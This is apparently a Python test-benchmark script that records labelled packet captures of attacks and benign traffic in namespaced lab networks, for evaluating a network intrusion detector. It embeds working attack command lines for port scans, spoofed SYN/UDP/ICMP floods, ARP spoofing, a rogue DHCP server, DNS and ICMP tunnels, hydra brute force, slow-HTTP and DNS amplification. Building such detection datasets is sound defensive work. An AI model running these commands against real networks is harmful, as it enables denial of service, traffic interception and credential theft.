"""Record a labelled set of attacks and harmless traffic: `python -m tests.benchmarks.detection.record FOLDER SEED`.

Real programs between namespaces of this machine; the seed draws networks, ports, rates and kinds. A set that was
recorded with a new seed after the limits were frozen is set B. Needs root, nmap, hping3, dsniff, iodine, ptunnel-ng,
hydra, slowhttptest, dnsmasq, nginx, openssh, vsftpd, iperf3, curl, dig, tcpdump.
"""

from __future__ import annotations

import random
import struct
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.benchmarks.detection.lab import Lab


@dataclass(frozen=True)
class Take:
    """One file: what is run where, for at most so long."""

    name: str
    kind: str
    """Of the families of the score table; empty for harmless traffic."""
    scripts: tuple[tuple[str, str], ...]
    seconds: float = 15.0
    obvious: bool = True
    """What any analyst would see at once; the others are subtle."""


def attacks(chance: random.Random) -> Iterator[Take]:
    """Every kind of attack that a program at hand can make, with parameters of this set."""
    low = chance.randrange(1, 3_000)
    ports, port = f"{low}-{low + chance.randrange(300, 1_500)}", chance.choice((80, 443, 22, 8080))
    a = "attacker"
    yield Take("scan_syn", "port_scan", ((a, f"nmap -n -Pn -sS -T{chance.choice((3, 4))} -p {ports} {{victim}}"),), 30)
    yield Take(
        "scan_connect", "port_scan", ((a, f"nmap -n -Pn -sT --top-ports {chance.choice((60, 200))} {{victim}}"),)
    )
    for flag in chance.sample(("F", "N", "X", "M"), 2):
        yield Take(f"scan_{flag.lower()}", "stealth_scan", ((a, f"nmap -n -Pn -s{flag} -p {ports} {{victim}}"),), 30)
    yield Take("scan_ack", "stealth_scan", ((a, f"nmap -n -Pn -sA -p {ports} {{victim}}"),), 20)
    yield Take(
        "scan_udp", "udp_scan", ((a, f"nmap -n -Pn -sU --top-ports {chance.randrange(40, 120)} {{victim}}"),), 40
    )
    delay = chance.choice((300, 500, 800))
    yield Take(
        "scan_slow", "port_scan", ((a, f"nmap -n -Pn -sS --scan-delay {delay}ms --top-ports 40 {{victim}}"),), 40, False
    )
    decoys = chance.randrange(4, 9)
    yield Take("scan_decoy", "port_scan", ((a, f"nmap -n -Pn -sS -D RND:{decoys} --top-ports 100 {{victim}}"),), 20)
    yield Take("scan_version", "port_scan", ((a, "nmap -n -Pn -sV --version-light --top-ports 80 {victim}"),), 40)
    yield Take("scan_ipv6", "port_scan", ((a, "nmap -6 -n -Pn -sS --top-ports 150 2001:db8:77::2"),), 20)
    yield Take("sweep_arp", "arp_scan", ((a, "nmap -n -sn {net}.0/24"),), 20)
    yield Take("sweep_icmp", "icmp_sweep", ((a, "nmap -n -sn -PE --disable-arp-ping {outside}.0/25"),), 20)
    yield Take(
        "sweep_port", "host_sweep", ((a, f"nmap -n -Pn -sS -p {chance.choice((445, 3389, 23))} {{outside}}.0/25"),), 30
    )
    u = chance.choice((700, 1_500, 3_000))
    yield Take("flood_syn", "syn_flood", ((a, f"hping3 -q -S -p {port} -i u{u} {{victim}}"),), 8)
    yield Take("flood_syn_forged", "syn_flood", ((a, f"hping3 -q -S --rand-source -p {port} -i u{u} {{victim}}"),), 8)
    yield Take("flood_icmp", "icmp_flood", ((a, f"hping3 -q -1 -i u{chance.choice((300, 800))} {{victim}}"),), 8)
    yield Take(
        "flood_udp", "udp_flood", ((a, f"hping3 -q -2 -p {chance.randrange(2_000, 9_000)} -i u350 {{victim}}"),), 8
    )
    yield Take("flood_ack", "flood", ((a, f"hping3 -q -A --rand-source -p {port} -i u900 {{victim}}"),), 8)
    yield Take("flood_rst", "flood", ((a, f"hping3 -q -R --rand-source -p {port} -i u1200 {{victim}}"),), 8)
    yield Take("spoof_both", "arp_spoof", (
        (a, "arpspoof -i eth0 -t {client} {gateway}"), (a, "arpspoof -i eth0 -t {gateway} {client}"),
        ("client", "ping -i 0.5 {gateway}"),
    ), 14)  # fmt: skip
    yield Take("spoof_one", "arp_spoof", (
        ("client", "ping -i 0.5 {gateway}"), (a, "sleep 3; arpspoof -i eth0 -t {victim} {gateway}"),
        ("victim", "ping -i 0.5 {gateway}"),
    ), 16)  # fmt: skip
    yield Take("mac_flood", "mac", ((a, f"macof -i eth0 -n {chance.randrange(900, 4_000)}"),), 8)
    yield Take("dhcp_rogue", "dhcp", (
        (a, "dnsmasq -k -u root --conf-file=/dev/null --interface=eth0 --bind-interfaces -p 0 --dhcp-authoritative "
         "--dhcp-range={net}.150,{net}.170,1h --dhcp-option=3,{attacker} --dhcp-option=6,{attacker} "
         "--dhcp-leasefile={folder}/rogue.leases --pid-file={folder}/rogue.pid"),
        ("client", "sleep 1; for i in 1 2 3; do dhclient -4 -1 -q -lf {folder}/lease$i -pf {folder}/dhc.pid -sf /bin/true "
         "eth0; rm -f {folder}/lease$i; pkill -F {folder}/dhc.pid; sleep 1; done"),
    ), 20)  # fmt: skip
    kind = chance.choice(("TXT", "NULL", "CNAME"))
    yield Take("tunnel_dns", "dns_tunnel", (
        ("net", "iodined -f -c -P secret 10.99.0.1 tunnel.example.net"),
        ("client", f"sleep 1; (iodine -f -r -T{kind} -P secret {{gateway}} tunnel.example.net &) ; sleep 8; ping -i 0.3 -s 200 10.99.0.1"),
    ), 30, False)  # fmt: skip
    yield Take("tunnel_icmp", "icmp_tunnel", (
        ("net", "ptunnel-ng -r127.0.0.1 -R22"),
        ("client", "sleep 1; ptunnel-ng -p{outside}.20 -l2222 & sleep 3; for i in 1 2 3; do ssh -p 2222 -n -i {folder}/id "
         "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@127.0.0.1 'seq 1 3000'; done"),
    ), 25, False)  # fmt: skip
    tasks = chance.choice((4, 8))
    for service, target in (
        ("ssh", "ssh://{victim}"),
        ("ftp", "ftp://{victim}"),
        ("http", "http-get://{victim}/private"),
    ):
        yield Take(
            f"guess_{service}",
            "brute_force",
            ((a, f"hydra -I -q -l admin -P {{folder}}/passwords -t {tasks} {target}"),),
            60,
        )
    for name, mode, target in (("slow_head", "-H", "{victim}/"), ("slow_body", "-B", "{victim}/take")):
        held, pause = chance.randrange(90, 300), chance.choice((4, 5))
        words = f"slowhttptest -c {held} {mode} -i {pause} -r 60 -l 24 -u http://{target}"
        yield Take(name, "slow_http", ((a, words),), 28)
    words = f"slowhttptest -c {chance.randrange(90, 300)} -B -i 5 -r 60 -l 24 -u http://{{victim}}/"
    yield Take("slow_refused", "slow_http", ((a, words),), 28)
    words = f"slowhttptest -c {chance.randrange(90, 300)} -H -i 5 -r 60 -l 24 -u https://{{victim}}/"
    yield Take("slow_hidden", "slow_http", ((a, words),), 28)
    yield Take(
        "amplified",
        "amplification",
        ((a, "hping3 -q -2 -p 53 -s 4500 -a {victim} -E {folder}/query -d 44 -i u4000 {gateway}"),),
        8,
    )
    yield Take("cleartext", "cleartext_credentials", (
        ("client", "curl -s -o /dev/null -u anna:secret http://{victim}/; curl -s -o /dev/null ftp://bob:secret@{victim}/"),
    ), 8)  # fmt: skip
    yield Take("sensitive", "sensitive_port", (
        (a, "for p in 23 445 1433 3306 3389 5432 5900 6379; do timeout 1 bash -c \"</dev/tcp/{victim}/$p\"; sleep 0.7; done"),
    ), 20, False)  # fmt: skip
    period = chance.choice((1.2, 1.6))
    yield Take("beacon", "beacon", (
        ("client", f"while :; do curl -s -m 1 -o /dev/null http://{{outside}}.33:8080/; sleep {period}; done"),
    ), 28 * period + 6, False)  # fmt: skip
    yield Take("invented_names", "dns", (
        ("client", "for i in $(seq 1 90); do dig +short +time=1 +tries=1 $RANDOM$RANDOM$i.example.org; sleep 0.1; done"),
    ), 30, False)  # fmt: skip


def harmless(chance: random.Random) -> Iterator[Take]:
    """What looks a little like attacks and is none."""
    c = "client"
    yield Take(
        "web",
        "",
        (
            (
                c,
                "for i in $(seq 1 120); do curl -s -o /dev/null http://www.example.org/; curl -sk -o /dev/null https://cdn.example.com/; sleep 0.1; done",
            ),
        ),
        30,
    )
    yield Take(
        "download",
        "",
        ((c, "for i in $(seq 1 12); do curl -s -o /dev/null http://{outside}.12/large.bin; sleep 1; done"),),
        30,
    )
    yield Take(
        "names",
        "",
        (
            (
                c,
                "for i in $(seq 1 150); do dig +short host$i.cdn.example.com; dig +short www.example.org; dig +short MX example.org; done",
            ),
        ),
        30,
    )
    yield Take(
        "ssh",
        "",
        (
            (
                c,
                "for i in $(seq 1 12); do ssh -n -i {folder}/id -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@{victim} 'uptime; ls /usr/bin'; sleep 0.5; done",
            ),
        ),
        30,
    )
    yield Take(
        "measure",
        "",
        (
            (
                c,
                "iperf3 -c {victim} -t 6 -b 150M; iperf3 -c {victim} -u -b 30M -t 6; iperf3 -c {victim} -R -t 5 -b 100M",
            ),
        ),
        30,
    )
    yield Take(
        "pings",
        "",
        ((c, "for s in 56 300 900 1400; do ping -c 8 -i 0.2 -s $s {victim}; done; ping -c 25 -i 0.2 {outside}.30"),),
        30,
    )
    yield Take(
        "poller",
        "",
        (
            (
                c,
                'for r in 1 2; do for h in {victim} {gateway} {outside}.5 {outside}.6 {outside}.7 {outside}.100 {net}.251; do ping -c 1 -W 1 $h; for p in 22 80 443 8080; do timeout 1 bash -c "</dev/tcp/$h/$p"; done; done; done',
            ),
        ),
        90,
    )
    yield Take(
        "crawler",
        "",
        (
            (
                c,
                "for i in $(seq 1 40); do curl -s -m 1 -o /dev/null http://{outside}.$((5 + i % 9 * (i % 5 == 0) * 8))/p$i; done",
            ),
        ),
        40,
    )
    yield Take(
        "burst",
        "",
        (
            (
                c,
                "for i in $(seq 1 400); do curl -s -o /dev/null http://{victim}/ & [ $((i % 40)) = 0 ] && wait; done; wait",
            ),
        ),
        30,
    )
    yield Take(
        "lease",
        "",
        (
            (
                c,
                "for i in 1 2 3; do dhclient -4 -1 -q -lf {folder}/l$i -pf {folder}/dhc.pid -sf /bin/true eth0; rm -f {folder}/l$i; pkill -F {folder}/dhc.pid; sleep 2; done",
            ),
        ),
        20,
    )
    yield Take(
        "refused",
        "",
        (
            (
                c,
                f"for i in $(seq 1 60); do curl -s -m 1 -o /dev/null http://{{victim}}:{chance.randrange(9_000, 9_900)}/; curl -s -o /dev/null http://{{victim}}/; sleep 0.2; done",
            ),
        ),
        30,
    )
    yield Take("ftp", "", ((c, "for i in $(seq 1 8); do curl -s -o /dev/null ftp://{victim}/; sleep 0.5; done"),), 20)


def main(folder: Path, seed: int) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    chance = random.Random(seed)
    labels = [("file", "kind", "label", "t0", "obvious")]
    with tempfile.TemporaryDirectory(prefix="nettui-bset-") as work, Lab(Path(work), chance) as lab:
        Path(work, "query").write_bytes(query())
        for take in (*attacks(chance), *harmless(chance)):
            out = folder / f"{'attack' if take.kind else 'harmless'}_{take.name}.pcap"
            with lab.recording(out):
                lab.act(take.scripts, take.seconds)
            who = lab.mac["attacker" if take.scripts[0][0] == "attacker" else "client"]
            t0 = first_packet(out, who) if take.kind else 0.0
            labels.append((out.name, take.kind or "harmless", "attack" if take.kind else "benign", f"{t0:.6f}",
                           "yes" if take.obvious else "no"))  # fmt: skip
            print(f"{out.name}: {out.stat().st_size:,} bytes", flush=True)
            (folder / "labels.tsv").write_text("".join("\t".join(row) + "\n" for row in labels))


def query() -> bytes:
    """A question for a large TXT record, with room for a large answer (EDNS)."""
    name = b"\x03big\x07example\x03org\0"
    edns = b"\0" + struct.pack(">HHIH", 41, 4_096, 0, 0)
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 1) + name + struct.pack(">HH", 16, 1) + edns


def first_packet(capture: Path, mac: str) -> float:
    """When the sender's first packet was captured."""
    words = ["tcpdump", "-tt", "-n", "-c", "1", "-r", str(capture)]
    for only in (["ether", "src", mac, "and", "not", "ip6"], []):  # a flood of MACs has none of its own
        said = subprocess.run([*words, *only], capture_output=True, text=True, check=False).stdout.split()
        if said:
            return float(said[0])
    return 0.0


if __name__ == "__main__":
    main(Path(sys.argv[1]), int(sys.argv[2]))
